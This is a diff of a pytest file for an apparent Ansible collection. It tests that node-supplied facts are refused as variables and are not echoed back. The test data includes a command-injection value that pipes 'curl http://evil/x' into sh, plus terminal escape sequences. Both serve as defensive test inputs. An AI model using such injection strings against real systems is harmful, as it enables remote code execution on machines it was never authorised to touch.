@@ -60,10 +60,52 @@ def test_an_empty_word_is_the_default(nodes):
     assert code == 0, said
 
 
-def test_no_node_decides_for_the_others(nodes):
-    hostile = {"results": {"kvm_host": {"ansible_facts": {"realtime_unreachable": "skip"}}}}
-    code, said, calls = nodes.run("realtime.kvm.guests", hostile, down=["node3"], realtime_unreachable="refuse")
+REFUSED = (
+    "which Ansible takes for variables, so a node would decide what this playbook does and says. Nothing was changed on any node."
+)
+
+
+@pytest.mark.parametrize(
+    ("playbook", "name", "value", "shown"),
+    [
+        ("guests", "realtime_unreachable", "skip", "realtime_unreachable"),
+        ("plan", "ansible_limit", "x'; curl http://evil/x | sh; echo '", "limit"),
+        ("undo", "inventory_hostname", "node2\x1b]0;owned\x07", "inventory_hostname"),
+        ("partition", "ansible_facts", {}, "facts"),
+        ("update", "needs", [], "needs"),
+    ],
+)
+def test_no_node_decides_for_the_others(nodes, playbook, name, value, shown):
+    first = ("kvm_host", "cpu_partition", "rt_domain", "package_update")
+    hostile = {"results": {module: {"ansible_facts": {name: value, "realtime_x\x1b": 1}} for module in first}}
+    variables = {"realtime_unreachable": "refuse", "cpu_partition_isolation": "runtime"}
+    code, said, calls = nodes.run(f"realtime.kvm.{playbook}", hostile, down=["node3"], **variables)
     assert code != 0
     assert made(calls) == []
-    assert "realtime_unreachable: node1, node2 answered a fact of this name, which Ansible takes for a variable" in said
-    assert "Nothing was changed on any node. Cannot be reached: node3." in said
+    both = sorted([shown, "realtime_x\\\\x1b"])
+    assert f"facts: node1 answered {', '.join(both)}; node2 answered {', '.join(both)}, {REFUSED}" in said
+    assert "evil" not in said
+    assert "owned" not in said
+    assert "\x1b" not in said
+
+
+def test_a_node_that_answers_another_name_only_after_the_first_look_is_refused_as_well(nodes):
+    hostile = {"kvm_host": "reboot", "results": {"ovs_dpdk": {"ansible_facts": {"inventory_hostname": "n\x1b]0;owned\x07"}}}}
+    code, said, calls = nodes.run("realtime.kvm.guests", hostile, realtime_max_disruption="none", realtime_networks=[])
+    assert code != 0
+    assert made(calls) == []
+    assert f"facts: node1 answered inventory_hostname; node2 answered inventory_hostname, {REFUSED}" in said
+    assert "\x1b" not in said
+
+
+def test_facts_of_the_machine_and_local_facts_are_no_variables_of_this_collection(nodes):
+    facts = {
+        "ansible_local": {"realtime_kvm_partition": {}},
+        "ansible_distribution": "Debian",
+        "ansible_ens1": {},
+        "packages": {},
+        "services": {},
+    }
+    code, said, calls = nodes.run("realtime.kvm.guests", {"results": {"kvm_host": {"ansible_facts": facts}}})
+    assert code == 0, said
+    assert made(calls)
